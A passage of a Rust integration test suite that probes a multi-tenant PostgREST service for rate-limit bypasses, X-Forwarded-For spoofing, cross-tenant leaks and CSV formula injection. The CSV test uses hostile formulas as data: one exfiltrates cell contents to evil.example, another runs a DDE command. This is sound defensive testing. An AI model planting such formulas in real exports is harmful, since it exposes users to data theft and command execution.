                _ => panic!("{} {}: {} {}", r.method, r.path, r.status, r.body),
            }
        }
    }
    assert_eq!((served, refused), (QUOTA, 48 - QUOTA));
    let rows = count(
        &admin,
        &format!("SELECT count(*) FROM http_api.{t} WHERE tenant_id = '{a}'"),
    )
    .await;
    assert_eq!(rows as usize, posted);
    // And the next request of any kind: 402.
    http.get(&path)
        .bearer(&token)
        .send()
        .await
        .expect_status(402);
}

// ---------------------------------------------------------------------------
// Item 12: rules meet every spelling PostgREST routes to the same target.
// ---------------------------------------------------------------------------

#[tokio::test]
async fn adv_rate_limit_rules_hold_for_every_spelling_of_the_path() {
    let (http, admin) = http_or_skip!("adv_rate_limit_rules_hold_for_every_spelling_of_the_path");
    let (a, u1, u2, u3) = (random_uuid(), random_uuid(), random_uuid(), random_uuid());
    tenant(
        &admin,
        &a,
        "adv-unlimited",
        "active",
        &[(&u1, "member"), (&u2, "member"), (&u3, "member")],
    )
    .await;
    let t = "adv_rl_items";
    fixture(
        &admin,
        &http,
        &format!(
            "DROP TABLE IF EXISTS http_api.{t};
             CREATE TABLE http_api.{t} (id uuid NOT NULL DEFAULT gen_random_uuid(), tenant_id uuid NOT NULL,
                 label text NOT NULL DEFAULT 'x', PRIMARY KEY (tenant_id, id));
             SELECT saas.enable_tenancy('http_api.{t}');
             GRANT SELECT, INSERT ON http_api.{t} TO authenticated;
             CREATE OR REPLACE FUNCTION http_api.adv_rl_fn(n int DEFAULT 1) RETURNS int
               LANGUAGE sql STABLE AS $$ SELECT n $$;
             GRANT EXECUTE ON FUNCTION http_api.adv_rl_fn(int) TO authenticated;"
        ),
        "/rpc/adv_rl_fn",
    )
    .await;
    http.wait_until_served(&admin, &format!("/{t}")).await;
    // After the schema wait, whose requests would count.
    admin
        .batch_execute(&format!(
            "SELECT saas.rate_limit_rule_set('/rpc/adv_rl_fn', 3, '1 hour');
             SELECT saas.rate_limit_rule_set('/{t}', 2, '1 hour', method => 'GET');"
        ))
        .await
        .unwrap();
    let auth = |u: &str| format!("Bearer {}", http.token(&user(u, Some(&a))));
    let (auth1, auth2, auth3) = (auth(&u1), auth(&u2), auth(&u3));
    let send = |method: &'static str, target: String, who: String| {
        let http = http.clone();
        async move {
            let body = (method == "POST").then_some("{}");
            raw(&http, method, &target, &[("Authorization", &who)], body).await
        }
    };

    // User 1 spends the function's 3 by its canonical path...
    for _ in 0..3 {
        send("GET", "/rpc/adv_rl_fn".into(), auth1.clone())
            .await
            .expect(200);
    }
    // ...and every other spelling PostgREST routes to it is refused.
    for (method, target) in [
        ("GET", "/rpc/%61dv_rl_fn"),
        ("GET", "/rpc/adv%5frl_fn"),
        ("GET", "/rpc/adv%5Frl_fn"),
        ("GET", "/%72pc/adv_rl_fn"),
        ("GET", "/%72%70%63/%61%64%76%5F%72%6C%5F%66%6E"),
        ("GET", "/rpc/adv_rl_fn?n=2"),
        ("GET", "/rpc/adv_rl_fn?"),
        ("GET", "/rpc/adv_rl_fn?n=2&n=3"),
        ("HEAD", "/rpc/adv_rl_fn"),
        ("POST", "/rpc/adv_rl_fn"),
        ("POST", "/rpc/%61dv_rl_fn?select=*"),
    ] {
        let r = send(method, target.into(), auth1.clone()).await;
        r.expect(429);
        if method != "HEAD" {
            assert_eq!(r.json()["code"], json!("PT429"), "{r:?}");
        }
    }
    // Spellings PostgREST does not route to the function: 404 before any
    // SQL runs (never served around the rule).
    for target in [
        "//rpc/adv_rl_fn",
        "/rpc//adv_rl_fn",
        "/rpc/adv_rl_fn/",
        "/RPC/adv_rl_fn",
        "/rpc/ADV_RL_FN",
        "/rpc/./adv_rl_fn",
        "/rpc/x/../adv_rl_fn",
        "/rpc%2Fadv_rl_fn",
        "/rpc/adv_rl_fn%20",
        "/rpc/adv_rl_fn%00",
    ] {
        let r = send("GET", target.into(), auth1.clone()).await;
        assert_eq!(r.status, 404, "{r:?}");
    }
    // User 2 spends the same counter with three other spellings: the
    // canonical path is then refused.
    send("GET", "/rpc/%61dv_rl_fn".into(), auth2.clone())
        .await
        .expect(200);
    send("HEAD", "/%72pc/adv_rl_fn?n=4".into(), auth2.clone())
        .await
        .expect(200);
    send("POST", "/rpc/adv%5Frl_fn".into(), auth2.clone())
        .await
        .expect(200);
    send("GET", "/rpc/adv_rl_fn".into(), auth2.clone())
        .await
        .expect(429);

    // A GET rule on a table: HEAD and encoded spellings spend it, POST not.
    send("HEAD", format!("/{t}"), auth3.clone())
        .await
        .expect(200);
    send("GET", "/%61dv_rl_items?select=id".into(), auth3.clone())
        .await
        .expect(200);
    for target in [
        format!("/{t}"),
        "/adv%5frl_items?label=eq.x".into(),
        format!("/{t}?select=id&order=id"),
    ] {
        send("GET", target, auth3.clone()).await.expect(429);
    }
    send("HEAD", format!("/{t}"), auth3.clone())
        .await
        .expect(429);
    send("POST", format!("/{t}"), auth3.clone())
        .await
        .expect(201);
    send("POST", "/adv%5Frl_items".into(), auth3.clone())
        .await
        .expect(201);
}

// ---------------------------------------------------------------------------
// Item 13: X-Forwarded-For.
// ---------------------------------------------------------------------------

/// Behind a proxy that appends the address it saw (the last hop), the hops
/// a client puts before it, an `X-Real-IP` or a `Forwarded` header choose
/// neither the `ip` rule's key nor the audit log's `client_ip`.
#[tokio::test]
async fn adv_x_forwarded_for_first_hops_choose_neither_rate_key_nor_audit_ip() {
    let (http, admin) =
        http_or_skip!("adv_x_forwarded_for_first_hops_choose_neither_rate_key_nor_audit_ip");
    let (a, owner) = (random_uuid(), random_uuid());
    tenant(&admin, &a, "adv-unlimited", "active", &[(&owner, "owner")]).await;
    let t = "adv_xff_items";
    fixture(
        &admin,
        &http,
        &format!(
            "DROP TABLE IF EXISTS http_api.{t};
             CREATE TABLE http_api.{t} (id uuid NOT NULL DEFAULT gen_random_uuid(), tenant_id uuid NOT NULL,
                 label text NOT NULL, PRIMARY KEY (tenant_id, id));
             SELECT saas.enable_tenancy('http_api.{t}');
             SELECT saas.audit_enable('http_api.{t}');
             GRANT SELECT, INSERT ON http_api.{t} TO authenticated;
             CREATE OR REPLACE FUNCTION http_api.adv_xff_fn() RETURNS int LANGUAGE sql STABLE AS 'SELECT 1';
             GRANT EXECUTE ON FUNCTION http_api.adv_xff_fn() TO anon;"
        ),
        "/rpc/adv_xff_fn",
    )
    .await;
    http.wait_until_served(&admin, &format!("/{t}")).await;
    admin
        .batch_execute(
            "SELECT saas.rate_limit_rule_set('/rpc/adv_xff_fn', 2, '1 hour', scope => 'ip')",
        )
        .await
        .unwrap();
    // Documentation addresses, random per run.
    let n = u8::from_str_radix(&a[0..2], 16).unwrap() % 250 + 1;
    let client = format!("198.51.100.{n}");
    let other = format!("198.51.100.{}", n % 250 + 2);
    let call = |xff: String, extra: Vec<(&'static str, String)>| {
        let http = http.clone();
        async move {
            let mut r = http.get("/rpc/adv_xff_fn").header("X-Forwarded-For", &xff);
            for (k, v) in &extra {
                r = r.header(k, v);
            }
            r.send().await
        }
    };
    // The client's two, each with another invented first hop.
    call(format!("203.0.113.1, {client}"), vec![])
        .await
        .expect_status(200);
    call(format!("203.0.113.2, {client}"), vec![])
        .await
        .expect_status(200);
    // Spent, whatever comes before the proxy's hop.
    for (xff, extra) in [
        (format!("203.0.113.3, {client}"), vec![]),
        (format!("10.0.0.1, {client}"), vec![]),
        (format!("unknown, {client}"), vec![]),
        (format!("{other}, {client}"), vec![]),
        (format!("203.0.113.4,{client}"), vec![]),
        (format!("[2001:db8::1]:443, {client}"), vec![]),
        // a second proxy (trusted, private) appended after the first
        (format!("203.0.113.5, {client}, 10.1.2.3"), vec![]),
        (format!("{client}, 127.0.0.1"), vec![]),
        (
            client.clone(),
            vec![("X-Real-IP", "203.0.113.6".to_string())],
        ),
        (
            client.clone(),
            vec![("Forwarded", "for=203.0.113.7".to_string())],
        ),
    ] {
        let r = call(xff.clone(), extra).await;
        assert_eq!(r.status, 429, "X-Forwarded-For: {xff}: {}", r.body);
        let d: Value = serde_json::from_str(&r.error().details.unwrap()).unwrap();
        assert_eq!(d["scope"], json!("ip"), "{d}");
    }
    // Another client behind the same proxy has its own two.
    call(format!("{client}, {other}"), vec![])
        .await
        .expect_status(200);

    // The audit log records the proxy's hop, not the invented ones.
    let token = http.token(&user(&owner, Some(&a)));
    let cases = [
        (format!("6.6.6.6, {client}"), None),
        (client.clone(), Some("6.6.6.6")),
        (format!("6.6.6.6, {client}, 192.168.7.7"), Some("7.7.7.7")),
    ];
    for (xff, real_ip) in cases {
        let rid = random_uuid();
        let mut req = http
            .post(&format!("/{t}"), &json!({"label": "x"}))
            .bearer(&token)
            .header("X-Forwarded-For", &xff)
            .header("X-Request-Id", &rid);
        if let Some(ip) = real_ip {
            req = req.header("X-Real-IP", ip);
        }
        req.send().await.expect_status(201);
        let ip: String = admin
            .query_one(
                "SELECT host(client_ip) FROM saas.audit_log WHERE request_id = $1",
                &[&rid],
            )
            .await
            .unwrap_or_else(|e| panic!("audit row of {xff}: {}", common::pg_err(&e)))
            .get(0);
        assert_eq!(ip, client, "X-Forwarded-For: {xff}, X-Real-IP: {real_ip:?}");
    }
}

// ---------------------------------------------------------------------------
// Item 14: what errors and exports repeat of the client's input.
// ---------------------------------------------------------------------------

#[tokio::test]
async fn adv_long_tenant_header_and_claim_are_cut_in_the_error() {
    let (http, admin) = http_or_skip!("adv_long_tenant_header_and_claim_are_cut_in_the_error");
    let (a, ua) = (random_uuid(), random_uuid());
    tenant(&admin, &a, "adv-unlimited", "active", &[(&ua, "member")]).await;
    let t = "adv_long_items";
    fixture(
        &admin,
        &http,
        &format!(
            "DROP TABLE IF EXISTS http_api.{t};
             CREATE TABLE http_api.{t} (id uuid NOT NULL DEFAULT gen_random_uuid(), tenant_id uuid NOT NULL,
                 label text NOT NULL, PRIMARY KEY (tenant_id, id));
             SELECT saas.enable_tenancy('http_api.{t}');
             GRANT SELECT ON http_api.{t} TO anon, authenticated;"
        ),
        &format!("/{t}"),
    )
    .await;
    let path = format!("/{t}");
    let marker = "SECRET-TAIL-7f3a";
    let long = format!("{a}{}{marker}", "x".repeat(8192));
    let check = |r: &HttpResponse, what: &str| {
        r.expect_status(400);
        let e = r.error();
        assert_eq!(e.code, "22023", "{what}");
        assert!(r.body.len() < 1024, "{what}: {} bytes", r.body.len());
        assert!(!r.body.contains(marker), "{what}: {}", r.body);
        assert!(e.message.contains("more bytes)"), "{what}: {}", e.message);
    };
    let r = http
        .get(&path)
        .claims(&user(&ua, None))
        .tenant(&long)
        .send()
        .await;
    check(&r, "signed-in X-Tenant-Id");
    let r = http.get(&path).tenant(&long).send().await;
    check(&r, "anonymous X-Tenant-Id");
    let r = http.get(&path).claims(&user(&ua, Some(&long))).send().await;
    check(&r, "tenant claim");
    let r = http
        .get(&path)
        .claims(&json!({"role": "authenticated", "app_metadata": {"tenant_id": long}}))
        .send()
        .await;
    check(&r, "app_metadata tenant claim");
    // Multi-byte characters are cut on a character boundary: valid JSON.
    let r = raw(
        &http,
        "GET",
        &path,
        &[(
            "Authorization",
            &format!(
                "Bearer {}",
                http.token(&user(&ua, Some(&format!("{}{marker}", "é".repeat(3000)))))
            ),
        )],
        None,
    )
    .await;
    r.expect(400);
    let body = r.json();
    assert_eq!(body["code"], json!("22023"));
    assert!(
        r.body.len() < 1024 && !r.body.contains(marker),
        "{}",
        r.body
    );
}

/// Splits one CSV line into fields (RFC 4180 quoting).
fn csv_fields(line: &str) -> Vec<String> {
    let mut fields = Vec::new();
    let mut cur = String::new();
    let mut quoted = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                cur.push('"');
                chars.next();
            }
            ('"', true) => quoted = false,
            ('"', false) if cur.is_empty() => quoted = true,
            (',', false) => fields.push(std::mem::take(&mut cur)),
            (c, _) => cur.push(c),
        }
    }
    fields.push(cur);
    fields
}

/// Formulas in the request headers that the audit log records (User-Agent,
/// X-Request-Id) and in row values come out of the CSV export inert: no
/// field starts with `=`, `+`, `-` or `@`; the formulas are there, behind
/// a `'`.
#[tokio::test]
async fn adv_csv_audit_export_neutralises_formulas() {
    let (http, admin) = http_or_skip!("adv_csv_audit_export_neutralises_formulas");
    let (a, owner) = (random_uuid(), random_uuid());
    tenant(&admin, &a, "adv-unlimited", "active", &[(&owner, "owner")]).await;
    let t = "adv_csv_items";
    fixture(
        &admin,
        &http,
        &format!(
            "DROP TABLE IF EXISTS http_api.{t};
             CREATE TABLE http_api.{t} (id uuid NOT NULL DEFAULT gen_random_uuid(), tenant_id uuid NOT NULL,
                 label text NOT NULL, PRIMARY KEY (tenant_id, id));
             SELECT saas.enable_tenancy('http_api.{t}');
             SELECT saas.audit_enable('http_api.{t}');
             GRANT SELECT, INSERT ON http_api.{t} TO authenticated;"
        ),
        &format!("/{t}"),
    )
    .await;
    let token = http.token(&user(&owner, Some(&a)));
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+SUM(1,2)",
        "-2+3",
        "@SUM(A1:A2)",
        "=cmd|' /C calc'!A0",
    ];
    for f in formulas {
        http.post(&format!("/{t}"), &json!({"label": f}))
            .bearer(&token)
            .header("User-Agent", f)
            .header("X-Request-Id", f)
            .send()
            .await
            .expect_status(201);
    }
    let r = http
        .get("/rpc/audit_export?p_from=2000-01-01T00:00:00Z&p_to=3000-01-01T00:00:00Z")
        .header("Accept-Profile", "saas_api")
        .header("Accept", "text/csv")
        .bearer(&token)
        .send()
        .await;
    r.expect_status(200);
    let mut lines = r.body.lines();
    let header = csv_fields(lines.next().unwrap());
    let ua = header.iter().position(|h| h == "user_agent").unwrap();
    let rid = header.iter().position(|h| h == "request_id").unwrap();
    let rows: Vec<Vec<String>> = lines.map(csv_fields).collect();
    assert_eq!(rows.len(), formulas.len(), "{}", r.body);
    let mut uas = Vec::new();
    for row in &rows {
        assert_eq!(row.len(), header.len(), "{row:?}");
        for field in row {
            assert!(
                !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a field a spreadsheet runs: {field:?} in {row:?}"
            );
        }
        assert_eq!(row[ua], row[rid]);
        uas.push(row[ua].clone());
    }
    uas.sort();
    let mut want: Vec<String> = formulas.iter().map(|f| format!("'{f}")).collect();
    want.sort();
    assert_eq!(uas, want);
}

// ---------------------------------------------------------------------------
// Side channels.
// ---------------------------------------------------------------------------

/// For tenant A's user, tenant B's existing row id and a random id answer
/// byte for byte the same (after putting the id back), whatever the request:
/// reads, updates, deletes, inserts and upserts with that id, a child row
/// referencing it, `return=representation` and `count=exact` on each. So
/// do B's tenant id and a random one, as header or claim, and a suspended
/// tenant the user is not a member of.
#[tokio::test]
async fn adv_other_tenants_ids_answer_like_random_ids() {
    let (http, admin) = http_or_skip!("adv_other_tenants_ids_answer_like_random_ids");
    let (a, b, s, ua, ub) = (
        random_uuid(),
        random_uuid(),
        random_uuid(),
        random_uuid(),
        random_uuid(),
    );
    tenant(&admin, &a, "adv-unlimited", "active", &[(&ua, "member")]).await;
    tenant(&admin, &b, "adv-unlimited", "active", &[(&ub, "member")]).await;
    tenant(&admin, &s, "adv-unlimited", "suspended", &[(&ub, "member")]).await;
    let t = "adv_side";
    let b_id = random_uuid();
    let b_child = random_uuid();
    fixture(
        &admin,
        &http,
        &format!(
            "DROP TABLE IF EXISTS http_api.{t}_child, http_api.{t};
             CREATE TABLE http_api.{t} (id uuid NOT NULL DEFAULT gen_random_uuid(), tenant_id uuid NOT NULL,
                 label text NOT NULL, PRIMARY KEY (tenant_id, id));
             CREATE TABLE http_api.{t}_child (id uuid NOT NULL DEFAULT gen_random_uuid(), tenant_id uuid NOT NULL,
                 parent_id uuid NOT NULL, note text NOT NULL DEFAULT 'n', PRIMARY KEY (tenant_id, id),
                 FOREIGN KEY (tenant_id, parent_id) REFERENCES http_api.{t} (tenant_id, id));
             SELECT saas.enable_tenancy('http_api.{t}');
             SELECT saas.enable_tenancy('http_api.{t}_child');
             GRANT SELECT, INSERT, UPDATE, DELETE ON http_api.{t}, http_api.{t}_child TO authenticated;
             INSERT INTO http_api.{t} (id, tenant_id, label) VALUES ('{b_id}', '{b}', 'b-secret');
             INSERT INTO http_api.{t}_child (id, tenant_id, parent_id, note) VALUES ('{b_child}', '{b}', '{b_id}', 'b-note');
             INSERT INTO http_api.{t} (tenant_id, label) VALUES ('{a}', 'a-own');"
        ),
        &format!("/{t}_child"),
    )
    .await;
    let token = http.token(&user(&ua, Some(&a)));
    // One probe: a request built around an id; its answer with the id
    // replaced, so two ids' answers compare.
    type Probe = Box<dyn Fn(&str) -> HttpRequest>;
    let p = format!("/{t}");
    let c = format!("/{t}_child");
    let probes: Vec<(&str, Probe)> = vec![
        ("get", {
            let (http, p, token) = (http.clone(), p.clone(), token.clone());
            Box::new(move |id| {
                http.get(&format!("{p}?id=eq.{id}"))
                    .bearer(&token)
                    .prefer("count=exact")
            })
        }),
        ("get child by parent", {
            let (http, c, token) = (http.clone(), c.clone(), token.clone());
            Box::new(move |id| {
                http.get(&format!("{c}?parent_id=eq.{id}&select=*,{}(*)", "adv_side"))
                    .bearer(&token)
                    .prefer("count=exact")
            })
        }),
        ("patch", {
            let (http, p, token) = (http.clone(), p.clone(), token.clone());
            Box::new(move |id| {
                http.patch(&format!("{p}?id=eq.{id}"), &json!({"label": "pwned"}))
                    .bearer(&token)
                    .prefer("return=representation,count=exact")
            })
        }),
        ("delete", {
            let (http, p, token) = (http.clone(), p.clone(), token.clone());
            Box::new(move |id| {
                http.delete(&format!("{p}?id=eq.{id}"))
                    .bearer(&token)
                    .prefer("return=representation,count=exact")
            })
        }),
        ("insert child referencing it", {
            let (http, c, token) = (http.clone(), c.clone(), token.clone());
            Box::new(move |id| {
                http.post(&c, &json!({"parent_id": id}))
                    .bearer(&token)
                    .prefer("return=representation")
            })
        }),
        ("insert the id into B", {
            let (http, p, token, b) = (http.clone(), p.clone(), token.clone(), b.clone());
            Box::new(move |id| {
                http.post(&p, &json!({"id": id, "tenant_id": b, "label": "pwned"}))
                    .bearer(&token)
                    .prefer("return=representation")
            })
        }),
        ("upsert merge into B", {
            let (http, p, token, b) = (http.clone(), p.clone(), token.clone(), b.clone());
            Box::new(move |id| {
                http.post(
                    &format!("{p}?on_conflict=tenant_id,id"),
                    &json!({"id": id, "tenant_id": b, "label": "pwned"}),
                )
                .bearer(&token)
                .prefer("resolution=merge-duplicates,return=representation")
            })
        }),
        ("upsert ignore into B", {
            let (http, p, token, b) = (http.clone(), p.clone(), token.clone(), b.clone());
            Box::new(move |id| {
                http.post(
                    &format!("{p}?on_conflict=tenant_id,id"),
                    &json!({"id": id, "tenant_id": b, "label": "pwned"}),
                )
                .bearer(&token)
                .prefer("resolution=ignore-duplicates,return=representation")
            })
        }),
        ("put into B", {
            let (http, p, token, b) = (http.clone(), p.clone(), token.clone(), b.clone());
            Box::new(move |id| {
                http.request("PUT", &format!("{p}?tenant_id=eq.{b}&id=eq.{id}"))
                    .json(&json!({"id": id, "tenant_id": b, "label": "pwned"}))
                    .bearer(&token)
                    .prefer("return=representation")
            })
        }),
        ("move own row onto the id in B", {
            let (http, p, token, b) = (http.clone(), p.clone(), token.clone(), b.clone());
            Box::new(move |id| {
                http.patch(
                    &format!("{p}?label=eq.a-own"),
                    &json!({"id": id, "tenant_id": b}),
                )
                .bearer(&token)
                .prefer("return=representation")
            })
        }),
    ];
    let normalise = |r: &HttpResponse, id: &str| {
        let mut headers: Vec<(String, String)> = r
            .headers
            .iter()
            .filter(|(k, _)| {
                [
                    "content-range",
                    "content-type",
                    "location",
                    "preference-applied",
                ]
                .contains(&k.to_ascii_lowercase().as_str())
            })
            .map(|(k, v)| (k.to_ascii_lowercase(), v.replace(id, "<id>")))
            .collect();
        headers.sort();
        (r.status, r.body.replace(id, "<id>"), headers)
    };
    for (name, probe) in &probes {
        let random = random_uuid();
        let on_b = probe(&b_id).send().await;
        let on_random = probe(&random).send().await;
        assert_eq!(
            normalise(&on_b, &b_id),
            normalise(&on_random, &random),
            "{name}: B's id vs a random id"
        );
        for r in [&on_b, &on_random] {
            assert!(
                !r.body.contains("b-secret") && !r.body.contains("b-note"),
                "{name}: {}",
                r.body
            );
        }
    }
    // B's rows are as they were.
    assert_eq!(
        count(
            &admin,
            &format!(
                "SELECT count(*) FROM http_api.{t} WHERE tenant_id = '{b}'
                 AND (id, label) = ('{b_id}', 'b-secret')"
            )
        )
        .await,
        1
    );
    assert_eq!(
        count(
            &admin,
            &format!("SELECT count(*) FROM http_api.{t} WHERE tenant_id = '{b}'")
        )
        .await,
        1
    );
    assert_eq!(
        count(
            &admin,
            &format!("SELECT count(*) FROM http_api.{t}_child WHERE tenant_id = '{b}'")
        )
        .await,
        1
    );

    // Tenant ids: B's (exists, A's user is no member), a suspended one (no
    // member either) and a random one answer alike, by header and by claim.
    let by_header = http.token(&user(&ua, None));
    let mut answers = Vec::new();
    for id in [&b, &s, &random_uuid()] {
        let r = http.get(&p).bearer(&by_header).tenant(id).send().await;
        let h = normalise(&r, id);
        let r = http.get(&p).claims(&user(&ua, Some(id))).send().await;
        answers.push((h, normalise(&r, id)));
    }
    assert_eq!(answers[0].0 .0, 403, "{:?}", answers[0]);
    assert_eq!(answers[0], answers[1], "B vs suspended");
    assert_eq!(answers[0], answers[2], "B vs random");
}

/// Embedded resources follow each table's policies: A's parents embed only
/// A's children, A's children embed only A's parents, an `!inner` join
/// or a filter on the embedded table does not reach B's rows, and exact
/// counts (GET, HEAD, DELETE) count only A's rows. Even a child table whose
/// foreign key is not led by the tenant column (which lets A point at B's
/// row: `tenancy_report` reports that key) embeds nothing of B's.
#[tokio::test]
async fn adv_embedding_and_exact_counts_show_only_the_callers_tenant() {
    let (http, admin) =
        http_or_skip!("adv_embedding_and_exact_counts_show_only_the_callers_tenant");
    let (a, b, ua) = (random_uuid(), random_uuid(), random_uuid());
    tenant(&admin, &a, "adv-unlimited", "active", &[(&ua, "member")]).await;
    tenant(&admin, &b, "adv-unlimited", "active", &[]).await;
    let t = "adv_emb";
    let (a_par, b_par) = (random_uuid(), random_uuid());
    fixture(
        &admin,
        &http,
        &format!(
            "DROP TABLE IF EXISTS http_api.{t}_loose, http_api.{t}_child, http_api.{t};
             CREATE TABLE http_api.{t} (id uuid NOT NULL DEFAULT gen_random_uuid(), tenant_id uuid NOT NULL,
                 label text NOT NULL, PRIMARY KEY (tenant_id, id), UNIQUE (id));
             CREATE TABLE http_api.{t}_child (id uuid NOT NULL DEFAULT gen_random_uuid(), tenant_id uuid NOT NULL,
                 parent_id uuid NOT NULL, note text NOT NULL, PRIMARY KEY (tenant_id, id),
                 FOREIGN KEY (tenant_id, parent_id) REFERENCES http_api.{t} (tenant_id, id));
             CREATE TABLE http_api.{t}_loose (id uuid NOT NULL DEFAULT gen_random_uuid(), tenant_id uuid NOT NULL,
                 parent_id uuid NOT NULL REFERENCES http_api.{t} (id), note text NOT NULL,
                 PRIMARY KEY (tenant_id, id));
             SELECT saas.enable_tenancy('http_api.{t}');
             SELECT saas.enable_tenancy('http_api.{t}_child');
             SELECT saas.enable_tenancy('http_api.{t}_loose');
             GRANT SELECT, INSERT, UPDATE, DELETE ON http_api.{t}, http_api.{t}_child, http_api.{t}_loose
               TO anon, authenticated;
             INSERT INTO http_api.{t} (id, tenant_id, label) VALUES ('{a_par}', '{a}', 'pa'), ('{b_par}', '{b}', 'pb');
             INSERT INTO http_api.{t}_child (tenant_id, parent_id, note)
               SELECT '{a}'::uuid, '{a_par}'::uuid, 'ca' || g FROM generate_series(1, 2) g
               UNION ALL SELECT '{b}'::uuid, '{b_par}'::uuid, 'cb' || g FROM generate_series(1, 5) g;
             INSERT INTO http_api.{t}_loose (tenant_id, parent_id, note) VALUES ('{b}', '{b_par}', 'lb');"
        ),
        &format!("/{t}_loose"),
    )
    .await;
    let token = http.token(&user(&ua, Some(&a)));
    let get = |path: String| {
        let (http, token, b) = (http.clone(), token.clone(), b.clone());
        async move {
            let r = http
                .get(&path)
                .bearer(&token)
                .prefer("count=exact")
                .send()
                .await;
            r.expect_status(200);
            assert!(
                !r.body.contains("pb") && !r.body.contains("cb") && !r.body.contains(&b),
                "{path}: {}",
                r.body
            );
            r
        }
    };
    // Parents with their children.
    let r = get(format!(
        "/{t}?select=label,{t}_child(note)&{t}_child.order=note"
    ))
    .await;
    let mut want = serde_json::Map::new();
    want.insert("label".into(), json!("pa"));
    want.insert(
        format!("{t}_child"),
        json!([{"note": "ca1"}, {"note": "ca2"}]),
    );
    assert_eq!(r.json(), json!([want]));
    assert_eq!(r.header("Content-Range"), Some("0-0/1"));
    // Children with their parent; an inner join filtered on B's label.
    let r = get(format!("/{t}_child?select=note,{t}(label)&order=note")).await;
    assert_eq!(r.header("Content-Range"), Some("0-1/2"));
    assert!(
        r.rows().iter().all(|row| row[t]["label"] == json!("pa")),
        "{}",
        r.body
    );
    let r = get(format!(
        "/{t}_child?select=note,{t}!inner(label)&{t}.label=eq.pb"
    ))
    .await;
    assert_eq!(r.header("Content-Range"), Some("*/0"));
    let r = get(format!(
        "/{t}?select=label,{t}_child!inner(note)&{t}_child.note=like.cb*"
    ))
    .await;
    assert_eq!(r.header("Content-Range"), Some("*/0"));
    // HEAD counts the same.
    let r = http
        .head(&format!("/{t}_child"))
        .bearer(&token)
        .prefer("count=exact")
        .send()
        .await;
    assert_eq!(r.expect_status(200).header("Content-Range"), Some("0-1/2"));
    // Anonymous: nothing, counted as nothing.
    let r = http
        .get(&format!("/{t}_child?select=*,{t}(*)"))
        .prefer("count=exact")
        .send()
        .await;
    assert_eq!(r.expect_status(200).header("Content-Range"), Some("*/0"));

    // The loose key lets A reference B's parent (a key check ignores RLS;
    // tenancy_report names it), but the embedding shows nothing of it.
    http.post(
        &format!("/{t}_loose"),
        &json!({"parent_id": b_par, "note": "la"}),
    )
    .bearer(&token)
    .send()
    .await
    .expect_status(201);
    let r = get(format!("/{t}_loose?select=note,{t}(label,id)")).await;
    assert_eq!(r.json(), json!([{"note": "la", t: null}]));
    let r = get(format!("/{t}_loose?select=note,{t}!inner(label)")).await;
    assert_eq!(r.rows(), Vec::<Value>::new());
    let problems: Vec<String> = admin
        .query_one(
            &format!(
                "SELECT problems FROM saas.tenancy_report('{{http_api}}')
                 WHERE table_name = 'http_api.{t}_loose'::regclass"
            ),
            &[],
        )
        .await
        .unwrap()
        .get(0);
    assert!(
        problems
            .iter()
            .any(|p| p.starts_with("keys not led by tenant_id")),
        "{problems:?}"
    );

    // A DELETE without a filter counts and removes only A's children.
    let r = http
        .delete(&format!("/{t}_child"))
        .bearer(&token)
        .prefer("count=exact")
        .send()
        .await;
    assert_eq!(r.expect_status(204).header("Content-Range"), Some("*/2"));
    assert_eq!(
        count(
            &admin,
            &format!("SELECT count(*) FROM http_api.{t}_child WHERE tenant_id = '{b}'")
        )
        .await,
        5
    );
}
